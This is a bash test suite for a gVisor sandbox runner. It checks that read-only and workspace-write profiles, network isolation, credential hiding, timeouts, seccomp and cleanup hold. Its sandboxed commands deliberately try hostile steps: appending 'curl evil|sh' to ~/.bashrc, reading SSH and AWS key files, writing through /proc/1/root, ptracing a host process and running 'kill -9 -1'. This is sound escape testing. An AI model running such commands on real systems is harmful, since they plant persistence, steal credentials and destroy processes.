#!/usr/bin/env bash
# The gVisor runner (`shunt run --runtime gvisor`): READ_ONLY and
# WORKSPACE_WRITE against checksums of a canary workspace and HOME,
# escape attempts, exit codes and signals, output to a file, network,
# hidden credentials, timeout, cleanup after a killed shunt, seccomp
# profiles, --uid/--gid, and the sandbox/gvisor/run.sh front end.
. "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
setup_home

if ! command -v runsc >/dev/null; then
	skip "runsc (gVisor) is not installed: apt-get install runsc"
	done_testing
	exit
fi
if ! out=$("$SHUNT" run --runtime gvisor --profile READ_ONLY --workspace "$TEST_TMP" -- true 2>&1); then
	skip "runsc cannot start a sandbox here: $(echo "$out" | head -c 300)"
	done_testing
	exit
fi

ESCAPE_BIN="$BUILD/tests/helpers/escape"
WS="$TEST_TMP/ws"
mkdir -p "$WS/.git/hooks" "$WS/src" "$HOME/.ssh" "$HOME/.aws"
echo 'print("hello")' >"$WS/src/main.py"
echo '#!/bin/sh' >"$WS/.git/hooks/pre-commit"
echo "SECRET-KEY-MATERIAL" >"$HOME/.ssh/id_rsa"
echo "aws_secret_access_key = SECRET-AWS" >"$HOME/.aws/credentials"
echo "alias ls=ls" >"$HOME/.bashrc"
echo "target" >"$HOME/target.txt"
ln -s "$HOME/target.txt" "$WS/link-home"
ln -s "/tmp/shunt-gv-via-link-$$" "$WS/link-tmp"
cp "$ESCAPE_BIN" "$WS/escape"
# package caches WORKSPACE_WRITE mounts (and creates when missing)
(cd "$HOME" && mkdir -p .npm .cache/pip .cargo/registry go/pkg/mod .gem .cache/yarn .local/share/pnpm)
chmod -R a+rX "$TEST_TMP"

snapshot() {
	(cd "$TEST_TMP" && find ws home -path home/.local/state/shunt -prune -o -path home/.cache/shunt -prune \
		-o -printf '%y %m %p -> %l\n' | sort
	 cd "$TEST_TMP" && find ws home -type f -not -path 'home/.local/state/shunt/*' \
		-not -path 'home/.cache/shunt/*' -print0 | sort -z | xargs -0 sha256sum)
}
BEFORE=$(snapshot)
unchanged() { # DESC
	local now
	now=$(snapshot)
	if [ "$now" = "$BEFORE" ]; then pass "$1: host canaries unchanged"; else
		fail "$1: host canaries unchanged"
		diff <(echo "$BEFORE") <(echo "$now") | head -10 | sed 's/^/# /'
	fi
}
gv() { # PROFILE ARGV...
	local p=$1; shift
	(cd "$WS" && "$SHUNT" run --runtime gvisor --profile "$p" --network none --workspace "$WS" -- "$@")
}
ro() { gv READ_ONLY "$@"; }

# --- READ_ONLY: one command that tries to write everywhere ---
TMPNAME="/tmp/shunt-gv-tmp-$$"
ETCNAME="/etc/shunt-gv-etc-$$"
out=$(ro sh -c "echo pwned > '$WS/src/main.py'; echo new > '$WS/new.txt'; rm -f '$WS/.git/hooks/pre-commit';
	touch '$HOME/planted'; echo 'curl evil|sh' >> '$HOME/.bashrc'; mkdir '$HOME/newdir';
	echo x > '$TMPNAME'; echo x > '$ETCNAME'; echo pwned > '$WS/link-home'; echo pwned > '$WS/link-tmp';
	echo done" 2>&1)
rc=$?
is "$rc" "0" "READ_ONLY: the write-everywhere command ran to its end"
like "$out" "Read-only file system|Permission denied" "READ_ONLY: writes fail inside"
unchanged "READ_ONLY write-everywhere"
[ ! -e "$TMPNAME" ] && pass "READ_ONLY: host /tmp untouched" || { fail "READ_ONLY: host /tmp untouched"; rm -f "$TMPNAME"; }
[ ! -e "$ETCNAME" ] && pass "READ_ONLY: host /etc untouched" || { fail "READ_ONLY: host /etc untouched"; rm -f "$ETCNAME"; }
is "$(cat "$HOME/target.txt")" "target" "READ_ONLY: symlink to HOME not followed to a write"
[ ! -e "/tmp/shunt-gv-via-link-$$" ] && pass "READ_ONLY: symlink to host /tmp lands in the private /tmp" ||
	{ fail "READ_ONLY: symlink to host /tmp lands in the private /tmp"; rm -f "/tmp/shunt-gv-via-link-$$"; }
out=$(ro sh -c "echo x > /tmp/inside && cat /tmp/inside" 2>&1)
is "$out" "x" "READ_ONLY: /tmp is writable inside (private)"

# --- WORKSPACE_WRITE writes only the workspace ---
out=$(gv WORKSPACE_WRITE sh -c "echo written > '$WS/ws-new.txt'; touch '$HOME/ww-planted' '$TMPNAME' '$ETCNAME' 2>/dev/null; echo done" 2>&1)
is "$(cat "$WS/ws-new.txt" 2>/dev/null)" "written" "WORKSPACE_WRITE: the workspace is writable"
[ ! -e "$HOME/ww-planted" ] && pass "WORKSPACE_WRITE: HOME not writable" || fail "WORKSPACE_WRITE: HOME not writable"
[ ! -e "$TMPNAME" ] && [ ! -e "$ETCNAME" ] && pass "WORKSPACE_WRITE: host /tmp and /etc untouched" ||
	{ fail "WORKSPACE_WRITE: host /tmp and /etc untouched"; rm -f "$TMPNAME" "$ETCNAME"; }
rm -f "$WS/ws-new.txt"
unchanged "WORKSPACE_WRITE (after removing the one file it wrote)"

# --- exit codes, signals, output ---
ro sh -c 'exit 42' >/dev/null 2>&1
is "$?" "42" "exit code 42 propagates"
ro sh -c 'kill -TERM $$' >/dev/null 2>&1
is "$?" "143" "kill -TERM \$\$ inside gives 143"
ro sh -c 'echo to-stderr >&2' 2>"$TEST_TMP/err.txt" >/dev/null
is "$(cat "$TEST_TMP/err.txt")" "to-stderr" "stderr arrives"
ro seq 1 800000 >"$TEST_TMP/out.txt" 2>/dev/null
is "$(sha256sum <"$TEST_TMP/out.txt")" "$(seq 1 800000 | sha256sum)" "5 MB of output redirected to a file arrives whole ($(stat -c %s "$TEST_TMP/out.txt") bytes)"
{ echo header; ro seq 1 1000; echo footer; } >"$TEST_TMP/mixed.txt" 2>/dev/null
is "$(sha256sum <"$TEST_TMP/mixed.txt")" "$({ echo header; seq 1 1000; echo footer; } | sha256sum)" "output lands at the file's offset between host writes"
out=$(echo piped-in | ro cat 2>&1)
is "$out" "piped-in" "stdin is passed through"

# --- escape attempts ---
out=$(ro sh -c "mount -o remount,rw '$WS' && echo REMOUNTED; echo x > '$WS/src/main.py' && echo WROTE" 2>&1)
unlike "$out" "REMOUNTED|WROTE" "READ_ONLY: remount read-write refused"
ro sh -c "echo x > /proc/self/root$WS/src/main.py; echo x > /proc/1/root$WS/src/main.py;
	touch /proc/1/root/tmp/shunt-gv-proc-$$ /proc/self/root$HOME/proc-planted" >/dev/null 2>&1
[ ! -e "/tmp/shunt-gv-proc-$$" ] && [ ! -e "$HOME/proc-planted" ] &&
	pass "READ_ONLY: /proc/self/root and /proc/1/root stay inside" || fail "READ_ONLY: /proc/self/root and /proc/1/root stay inside"
unchanged "remount and /proc/*/root"

sleep 300 &
HOSTPID=$!
out=$(ro ./escape ptrace "$HOSTPID" 2>&1)
is "$?" "0" "ptrace of a host process blocked ($out)"
ro sh -c "kill -9 $HOSTPID; kill -9 -1" >/dev/null 2>&1
kill -0 "$HOSTPID" 2>/dev/null && pass "host process survives kill from inside" || fail "host process survives kill from inside"
out=$(ro sh -c "ls /proc | grep -c '^[0-9]'" 2>/dev/null)
[ "${out:-99}" -lt 10 ] && pass "the sandbox sees only its own processes ($out)" || fail "the sandbox sees only its own processes ($out)"
kill "$HOSTPID" 2>/dev/null
wait "$HOSTPID" 2>/dev/null

SHMNAME="shunt-gv-shm-$$"
ro sh -c "echo x > /dev/shm/$SHMNAME" >/dev/null 2>&1
[ ! -e "/dev/shm/$SHMNAME" ] && pass "/dev/shm is private" || { fail "/dev/shm is private"; rm -f "/dev/shm/$SHMNAME"; }

# host listeners: abstract unix socket and loopback TCP (--network none)
SOCK="shunt-gv-$$"
"$ESCAPE_BIN" listen-abstract "$SOCK" "$TEST_TMP/abstract.flag" &
L1=$!
"$ESCAPE_BIN" listen-tcp "$TEST_TMP/port" "$TEST_TMP/tcp.flag" &
L2=$!
for _ in $(seq 100); do
	if [ -s "$TEST_TMP/port" ]; then
		[ -s "$TEST_TMP/abstract.flag" ] || "$ESCAPE_BIN" connect-abstract "$SOCK" >/dev/null 2>&1
		[ -s "$TEST_TMP/tcp.flag" ] || "$ESCAPE_BIN" connect-tcp "$(cat "$TEST_TMP/port")" >/dev/null 2>&1
		[ -s "$TEST_TMP/abstract.flag" ] && [ -s "$TEST_TMP/tcp.flag" ] && break
	fi
	sleep 0.1
done
PORT=$(cat "$TEST_TMP/port" 2>/dev/null)
n_abs=$(wc -l <"$TEST_TMP/abstract.flag" 2>/dev/null || echo 0)
n_tcp=$(wc -l <"$TEST_TMP/tcp.flag" 2>/dev/null || echo 0)
if [ "$n_abs" -ge 1 ] && [ "$n_tcp" -ge 1 ]; then
	pass "host listeners accept connections from the host"
	out=$(ro ./escape connect-abstract "$SOCK" 2>&1)
	is "$?" "0" "abstract unix socket on the host unreachable ($out)"
	out=$(ro ./escape connect-tcp "$PORT" 2>&1)
	is "$?" "0" "--network none: loopback TCP on the host unreachable ($out)"
	sleep 0.2
	is "$(wc -l <"$TEST_TMP/abstract.flag")" "$n_abs" "no abstract-socket connection arrived"
	is "$(wc -l <"$TEST_TMP/tcp.flag")" "$n_tcp" "no TCP connection arrived"
else
	fail "host listeners accept connections from the host (abstract=$n_abs tcp=$n_tcp)"
fi
kill "$L1" "$L2" 2>/dev/null
wait "$L1" "$L2" 2>/dev/null
out=$(ro sh -c "ls /sys/class/net 2>/dev/null || cat /proc/net/dev" 2>&1)
unlike "$out" "eth|ens|enp|wl|docker|veth" "--network none: no interface but loopback ($(echo $out))"

# --- credentials ---
out=$(ro sh -c "cat '$HOME/.ssh/id_rsa'; cat '$HOME/.aws/credentials'" 2>&1)
unlike "$out" "SECRET-KEY-MATERIAL|SECRET-AWS" "~/.ssh/id_rsa and ~/.aws/credentials unreadable"
out=$(ro cat "$HOME/target.txt" 2>&1)
is "$out" "target" "the rest of HOME is readable"

# --- timeout ---
"$SHUNT" run --runtime gvisor --profile READ_ONLY --network none --workspace "$WS" --timeout 2 -- sleep 100 \
	>/dev/null 2>"$TEST_TMP/timeout.err" &
TPID=$!
# a watchdog so that a broken timeout cannot hang the suite
( sleep 30; kill -9 "$TPID" 2>/dev/null ) &
WD=$!
wait "$TPID"
rc=$?
kill "$WD" 2>/dev/null
wait "$WD" 2>/dev/null
is "$rc" "124" "--timeout 2 -- sleep 100 exits 124"
like "$(cat "$TEST_TMP/timeout.err")" "timed out" "and says it timed out"

# --- seccomp profile (OCI seccomp inside gVisor) ---
cat >"$TEST_TMP/deny-uname.json" <<'EOF'
{"defaultAction":"SCMP_ACT_ALLOW","syscalls":[{"names":["uname"],"action":"SCMP_ACT_ERRNO","errnoRet":1}]}
EOF
chmod a+r "$TEST_TMP/deny-uname.json"
out=$(ro uname -s 2>&1)
is "$out" "Linux" "uname works without a profile"
out=$(cd "$WS" && "$SHUNT" run --runtime gvisor --profile READ_ONLY --network none --workspace "$WS" \
	--seccomp-profile "$TEST_TMP/deny-uname.json" -- uname -s 2>&1)
rc=$?
[ "$rc" -ne 0 ] && pass "--seccomp-profile denying uname makes uname fail inside (rc=$rc: $(echo "$out" | head -1))" ||
	fail "--seccomp-profile denying uname makes uname fail inside (rc=$rc: $out)"

# --- uid/gid ---
if is_root; then
	out=$(cd "$WS" && "$SHUNT" run --runtime gvisor --profile READ_ONLY --network none --workspace "$WS" \
		--uid 1234 --gid 2345 -- sh -c 'echo $(id -u):$(id -g)' 2>&1)
	is "$out" "1234:2345" "--uid 1234 --gid 2345 inside"
else
	skip "--uid/--gid: rootless runsc maps only the caller's uid (needs root)"
fi

# --- a SIGKILLed shunt leaves nothing after the next run's sweep ---
BUNDLES="$XDG_RUNTIME_DIR/shunt/gvisor"
STATE="$XDG_RUNTIME_DIR/shunt/gvisor-state"
"$SHUNT" run --runtime gvisor --profile READ_ONLY --network none --workspace "$WS" -- sleep 100 >/dev/null 2>&1 &
KPID=$!
for _ in $(seq 100); do
	[ -n "$(ls "$BUNDLES" 2>/dev/null)" ] && runsc --root "$STATE" list 2>/dev/null | grep -q running && break
	sleep 0.1
done
id=$(ls "$BUNDLES" 2>/dev/null | head -1)
[ -n "$id" ] && pass "a running sandbox has a bundle ($id)" || fail "a running sandbox has a bundle"
kill -9 "$KPID"
wait "$KPID" 2>/dev/null
sleep 0.5
ro true >/dev/null 2>&1
is "$?" "0" "the next run works"
is "$(ls -A "$BUNDLES" 2>/dev/null)" "" "the sweep left no bundle directory"
listed=$(runsc --root "$STATE" list 2>/dev/null | tail -n +2)
is "$listed" "" "no container left in runsc --root <state> list"
left=""
for _ in $(seq 30); do
	left=$(pgrep -af "runsc.*$STATE" 2>/dev/null | grep -v pgrep)
	[ -z "$left" ] && break
	sleep 0.2
done
is "$left" "" "no runsc processes left"

# --- sandbox/gvisor/run.sh ---
RUNSH="$TOP/sandbox/gvisor/run.sh"
if [ -x "$RUNSH" ]; then
	out=$(SHUNT_BIN="$SHUNT" SHUNT_PROFILE=READ_ONLY "$RUNSH" --network=none "$WS" sh -c 'cat src/main.py; echo x > new.txt' 2>&1)
	like "$out" 'print\("hello"\)' "run.sh: runs in the workspace"
	[ ! -e "$WS/new.txt" ] && pass "run.sh: SHUNT_PROFILE=READ_ONLY mounts it read-only" || fail "run.sh: SHUNT_PROFILE=READ_ONLY mounts it read-only"
	SHUNT_BIN="$SHUNT" "$RUNSH" --profile WORKSPACE_WRITE --network=none "$WS" sh -c 'echo y > run-sh.txt; exit 7' >/dev/null 2>&1
	is "$?" "7" "run.sh: exit code passes through"
	is "$(cat "$WS/run-sh.txt" 2>/dev/null)" "y" "run.sh: --profile WORKSPACE_WRITE mounts it read-write"
	rm -f "$WS/run-sh.txt"
	out=$(SHUNT_BIN="$SHUNT" "$RUNSH" --dry-run --profile READ_ONLY --uid 0 "$WS" touch should-not-exist 2>&1)
	rc=$?
	is "$rc" "0" "run.sh --dry-run exits 0"
	like "$out" "gvisor" "run.sh --dry-run prints the resolved plan"
	[ ! -e "$WS/should-not-exist" ] && pass "run.sh --dry-run runs nothing" || fail "run.sh --dry-run runs nothing"
	out=$(SHUNT_BIN="$SHUNT" SHUNT_RUNSC=/nonexistent/runsc "$RUNSH" --profile READ_ONLY "$WS" touch should-not-exist 2>&1)
	is "$?" "0" "run.sh without runsc: exits 0"
	like "$out" "gvisor" "run.sh without runsc: prints the plan"
	[ ! -e "$WS/should-not-exist" ] && pass "run.sh without runsc: runs nothing" || fail "run.sh without runsc: runs nothing"
else
	fail "sandbox/gvisor/run.sh exists and is executable"
fi

unchanged "end of suite"
done_testing
